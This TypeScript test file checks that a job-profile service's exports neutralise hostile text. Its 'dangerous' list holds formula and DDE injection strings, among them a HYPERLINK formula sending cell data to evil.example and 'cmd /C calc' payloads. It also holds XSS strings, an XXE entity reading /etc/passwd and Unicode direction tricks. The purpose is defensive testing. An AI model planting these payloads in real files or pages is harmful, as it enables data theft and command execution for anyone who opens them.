import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { JobProfileContent } from '../../../src/profiles/domain/job-profile-content.js';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { startTestApp, type TestApp } from '../../support/index.js';
import { positionOf, russianContent } from '../../support/job-profile.factory.js';
import { publish } from './published-profiles.js';
import { filesOfZip, htmlOfDocx, pagesOfPdf, sheetsOfXlsx, textOf, textOfDocx } from './read-back.js';

/** What a person may type into a profile; only the control characters and what nobody sees must not come out again. */
const dangerous = [
  '=HYPERLINK("http://evil.example/?"&A1;"Отчёт")',
  "=cmd|' /C calc'!A0",
  '+12+34',
  '-12+34',
  '@SUM(1+1)',
  '\t=12+34',
  '\r=12+34',
  '＝12+34',
  '"=12+34',
  'DDE("cmd";"/C calc";"1")',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[ссылка](javascript:alert(1))',
  '![рисунок](http://evil.example/x.png)',
  '<http://evil.example>',
  'http://evil.example и www.evil.example и evil@evil.example',
  '# Заголовок | столбец',
  '$\\href{http://evil.example}{x}$',
  '&lt;script&gt;',
  ']]> <!ENTITY x SYSTEM "file:///etc/passwd">',
  'слева \u202Eнаправо\u2066 и \u{E0041}метка',
];
const seen = (text: string): string => text.replace(/[\t\r]/gu, '').replace(/[\u202E\u2066\u{E0041}]/gu, '');

/** Every text that an edit may change, each with dangerous ones. */
function editedBy(content: JobProfileContent, text: (place: number) => string): JobProfileContent {
  let place = 0;
  const next = (): string => text((place += 1));
  const some = (count: number): string[] => Array.from({ length: count }, next);
  return {
    ...content,
    employeeName: next(),
    purpose: `${next()} и ещё несколько слов о цели должности`,
    responsibilityAreas: [1, 2, 3].map(() => ({ name: next(), tasks: some(7) })),
    professionalSkills: [1, 2].map(() => ({
      category: next(),
      skills: some(4).map((name) => ({ name, level: 2 as const })),
    })),
    corporateCompetences: some(8),
    personalQualities: some(8),
    experience: { minYears: 1, description: next() },
    education: { level: 'bachelor', fields: some(8) },
    workplace: { software: some(15), hardware: some(10) },
    performance: { ...content.performance, qualitativeIndicators: some(8) },
    conditions: { ...content.conditions, schedule: next(), travel: next() },
  };
}

describe('Exports of what a person typed into a profile', () => {
  let app: TestApp;
  let id: string;

  beforeAll(async () => {
    app = await startTestApp();
    const content = russianContent({
      title: '=1+1 <b>Аналитик</b>',
      unit: { ...russianContent().unit, name: '@Отдел' },
    });
    id = (await publish(app, content, { position: positionOf(content) })).profileId;
    const edited = editedBy(content, (place) => dangerous[place % dangerous.length] ?? '');
    const { status, bytes } = await app.request('PUT', `/profiles/${id}/content`, {
      body: edited,
      as: 'editor',
      headers: { 'If-Match': '"1"' },
    });
    if (status !== 200) throw new Error(bytes.toString());
  });
  afterAll(() => app.close());

  const exported = async (format: string): Promise<Buffer> =>
    (await app.request('GET', `/profiles/${id}/export?format=${format}`, { as: 'viewer' })).bytes;

  it('have cells of text only in a workbook: no formula, no link, nothing outside of the file', async () => {
    const bytes = await exported('xlsx');
    const files = Object.entries(filesOfZip(bytes));
    const xml = files.map(([, content]) => textOf(content)).join('\n');
    expect(
      files.map(([name]) => name).filter((name) => /external|connections|macros|vba|ddeLink/iu.test(name)),
    ).toEqual([]);
    expect(xml).not.toMatch(/<f[ >]|<hyperlink|TargetMode="External"|ddeLink|<!ENTITY|<!DOCTYPE/u);
    const cells = (await sheetsOfXlsx(bytes)).flatMap(({ data }) => data.flat());
    for (const text of dangerous.map(seen)) expect(cells).toContain(text);
    const sheets = files.filter(([name]) => name.startsWith('xl/worksheets/sheet'));
    const typesOfCells = sheets.flatMap(([, content]) => textOf(content).match(/<c [^>]*?(?:\/>|>)/gu) ?? []);
    const texts = typesOfCells.filter((cell) => cell.includes(' t='));
    expect(texts.length).toBeGreaterThan(100);
    expect(texts.filter((cell) => !/ t="(?:s|inlineStr|n)"/u.test(cell))).toEqual([]);
  });

  it('have in Markdown no markup that is not ours', async () => {
    const text = (await exported('md')).toString('utf8');
    const unescaped = text.replaceAll(/\\./gu, '');
    expect(unescaped).not.toMatch(/[<>`$]|\[|\]\(|https?:|www\.|@/u);
    expect(unescaped.split('\n').filter((line) => /^(?:[=+]|#{1,6} .*\|)/u.test(line))).toEqual([]);
    expect(text).toContain('\\<script\\>alert(1)\\</script\\>');
    expect(text).toContain('&amp;lt;script&amp;gt;');
  });

  it('have in a Word document no link, field, object or relation to the outside', async () => {
    const bytes = await exported('docx');
    const files = filesOfZip(bytes);
    const body = textOf(files['word/document.xml']);
    expect(body).not.toMatch(/w:hyperlink|w:fldSimple|w:instrText|w:object|w:altChunk|<script|<img/u);
    const relations = Object.entries(files).filter(([name]) => name.endsWith('.rels'));
    expect(relations.map(([, content]) => textOf(content)).join('')).not.toContain('TargetMode="External"');
    const text = await textOfDocx(bytes);
    for (const each of dangerous.map(seen)) expect(text).toContain(each);
    expect(await htmlOfDocx(bytes)).not.toMatch(/<script|<img|<a [^>]*href/u);
  });

  it('have in a PDF no action, link or script', async () => {
    const bytes = await exported('pdf');
    expect(bytes.toString('latin1')).not.toMatch(/\/(?:JavaScript|JS|Launch|URI|OpenAction|AA|EmbeddedFile)\b/u);
    const task = getDocument({ data: new Uint8Array(bytes), verbosity: 0 });
    const document = await task.promise;
    for (let page = 1; page <= document.numPages; page += 1) {
      expect(await (await document.getPage(page)).getAnnotations()).toEqual([]);
    }
    await task.destroy();
    expect((await pagesOfPdf(bytes)).join(' ')).toContain('<script>alert(1)</script>');
  });

  it('have in JSON the content as it was typed, and nothing that ends the file', async () => {
    const { content } = JSON.parse((await exported('json')).toString('utf8')) as { content: JobProfileContent };
    expect(content.workplace.software).toHaveLength(15);
    expect(JSON.stringify(content)).toContain('＝12+34');
  });

  it('have in an archive names that stay in their folder and a manifest that is JSON', async () => {
    const { bytes } = await app.request('POST', '/profile-exports', { body: { format: 'md' }, as: 'viewer' });
    const files = filesOfZip(bytes);
    expect(Object.keys(files).filter((name) => /[/\\<>:"|?*\p{Cc}\p{Cf}]|^\.|\.\./u.test(name))).toEqual([]);
    const manifest = JSON.parse(textOf(files['manifest.json'])) as { files: { title: string }[] };
    expect(manifest.files.map(({ title }) => title)).toEqual(['=1+1 <b>Аналитик</b>']);
  });
});
